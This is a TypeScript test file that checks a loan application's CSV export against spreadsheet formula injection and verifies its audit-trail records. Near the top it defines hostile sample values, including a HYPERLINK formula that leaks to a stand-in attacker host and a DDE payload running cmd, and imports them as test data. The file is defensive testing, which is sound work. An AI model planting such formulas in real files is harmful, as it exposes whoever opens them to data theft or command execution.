// Loan exports as an attacker and an auditor see them (issue 8, items 1 and 10): text imported to run as a
// spreadsheet formula leaves neutralised, and every export is in the audit trail with its scope and digest.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { Job } from '../../../preload/contract/index.ts';
import { ADMIN_PASSPHRASE, createTestWorkspace, ROLE_USERS, type TestApi, type TestWorkspace } from '../../test-support/api-test-workspace.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","Loan")';
const DDE = "=cmd|' /C calc'!A0";
const PLUS = '+1+cmd|x';
const MINUS = '-2+3+cmd|x';
const AT = '@SUM(1+9)*cmd|x';

interface AuditRow {
  seq: number;
  actor: string;
  action: string;
  subject: string;
  details: string;
}

describe('loan export: formula neutralisation and audit', () => {
  let ws: TestWorkspace;
  let t: TestApi;

  before(async () => {
    ws = await createTestWorkspace({ roles: true });
    const borrowers = path.join(ws.dir, 'hostile-borrowers.csv');
    // Product and channel are codes (loan-vocabulary.ts), so formula text comes in through ids and the region.
    fs.writeFileSync(borrowers, ['borrower_id,region,annual_income', `"${HYPERLINK.replaceAll('"', '""')}",${AT},120000.00`, `${PLUS},"${DDE.replaceAll('"', '""')}",90000.00`].join('\n'));
    const loans = path.join(ws.dir, 'hostile-loans.csv');
    fs.writeFileSync(
      loans,
      [
        'loan_id,borrower_id,product,origination_date,principal,interest_rate,term_months,channel,outstanding_balance',
        `L1,"${HYPERLINK.replaceAll('"', '""')}",sme_working_capital,2024-01-15,1000.00,0.1,12,web,800.00`,
        `${MINUS},${PLUS},consumer_cash_loan,2024-02-15,500.00,0.2,6,app_organic,400.00`,
      ].join('\n'),
    );
    t = ws.service();
    await t.ok('session.unlock', { passphrase: ADMIN_PASSPHRASE });
    for (const [kind, file] of [['borrowers', borrowers], ['loans', loans]] as const) {
      const done = await t.jobDone((await t.ok<{ jobId: string }>('jobs.startImport', { kind, path: file })).jobId);
      assert.equal(done.job.state, 'done', `${kind}: ${done.error?.message}`);
    }
  });
  after(() => ws.dispose());

  async function exportAll(api: TestApi, args: Record<string, unknown>): Promise<{ jobId: string; bytes: Buffer }> {
    const { jobId } = await api.ok<{ jobId: string }>('portfolio.exportLoans', args);
    const done = await api.jobDone(jobId);
    assert.equal(done.job.state, 'done', done.error?.message);
    const parts: Buffer[] = [];
    for (let offset = 0; ; ) {
      const read = await api.ok<{ chunk: string; nextOffset: number; done: boolean }>('jobs.readExport', { jobId, offset });
      parts.push(Buffer.from(read.chunk, 'utf8'));
      offset = read.nextOffset;
      if (read.done) break;
    }
    return { jobId, bytes: Buffer.concat(parts) };
  }

  async function latestAudit(api: TestApi): Promise<AuditRow> {
    const page = await api.ok<{ rows: AuditRow[] }>('audit.events', { startRow: 0, endRow: 1, sortModel: [{ colId: 'seq', sort: 'desc' }] });
    const row = page.rows[0];
    assert.ok(row);
    return row;
  }

  it('prefixes an apostrophe to every imported value that would run as a formula, and leaves amounts alone', async () => {
    const { bytes } = await exportAll(t, { sortModel: [{ colId: 'loan_id', sort: 'desc' }], filterModel: {}, columns: ['loan_id', 'borrower_id', 'region', 'product', 'channel', 'outstanding_balance_minor'] });
    const records = parse(bytes, { bom: true, columns: true }) as Record<string, string>[];
    assert.deepEqual(records, [
      { loan_id: 'L1', borrower_id: `'${HYPERLINK}`, region: `'${AT}`, product: 'sme_working_capital', channel: 'web', outstanding_balance: '800.00', currency: 'CNY' },
      { loan_id: `'${MINUS}`, borrower_id: `'${PLUS}`, region: `'${DDE}`, product: 'consumer_cash_loan', channel: 'app_organic', outstanding_balance: '400.00', currency: 'CNY' },
    ]);
    for (const record of records) for (const value of Object.values(record)) assert.ok(!/^[=+@\t\r]/.test(value) && !/^-[^\d]/.test(value) && !/^-\d+\+/.test(value), value);
  });

  it('records each export in the audit trail: who, which view, how many rows, and the digest of the file', async () => {
    const filterModel = { product: { filterType: 'text', type: 'equals', filter: 'consumer_cash_loan' } };
    const sortModel = [{ colId: 'principal_minor', sort: 'asc' }];
    const before = await latestAudit(t);
    const { bytes } = await exportAll(t, { filterModel, sortModel, columns: ['loan_id', 'principal_minor'] });
    const event = await latestAudit(t);
    assert.equal(event.seq, before.seq + 1);
    assert.equal(event.action, 'portfolio.export');
    assert.equal(event.subject, 'loans');
    assert.equal(event.actor, 'admin');
    const details = JSON.parse(event.details) as Record<string, unknown>;
    assert.equal(details.rows, 1);
    assert.equal(details.bytes, bytes.length);
    assert.equal(details.sha256, createHash('sha256').update(bytes).digest('hex'));
    assert.deepEqual(details.columns, ['loan_id', 'principal_minor', 'currency']);
    assert.deepEqual(details.filterModel, filterModel);
    assert.deepEqual(details.sortModel, sortModel);
    assert.match(String(details.file), /^loans-\d{8}-\d{6}-[0-9a-f]{8}\.csv$/);
  });

  it('names the auditor who exports', async () => {
    const auditor = ws.service();
    await auditor.ok('session.unlock', { username: ROLE_USERS.auditor.username, passphrase: ROLE_USERS.auditor.passphrase });
    await exportAll(auditor, { filterModel: {}, sortModel: [] });
    const event = await latestAudit(auditor);
    assert.equal(event.action, 'portfolio.export');
    assert.equal(event.actor, ROLE_USERS.auditor.username);
    assert.equal((JSON.parse(event.details) as { rows: number }).rows, 2);
    await auditor.ok('session.lock');
  });

  it('records nothing for an export that did not finish, and leaves no file', async () => {
    await t.ok('session.unlock', { passphrase: ADMIN_PASSPHRASE });
    const before = await latestAudit(t);
    const { jobId } = await t.ok<{ jobId: string }>('portfolio.exportLoans', { filterModel: {}, sortModel: [] });
    await t.ok('jobs.cancel', { jobId });
    const done = await t.jobDone(jobId);
    assert.equal(done.job.state, 'cancelled');
    assert.equal((await t.ok<Job[]>('jobs.list')).find((job) => job.jobId === jobId)?.state, 'cancelled');
    assert.equal((await latestAudit(t)).seq, before.seq);
    const left = fs.existsSync(ws.temporaryRoot) ? (fs.readdirSync(ws.temporaryRoot, { recursive: true, withFileTypes: true }) as fs.Dirent[]).filter((e) => e.isFile()) : [];
    assert.deepEqual(left, []);
  });
});
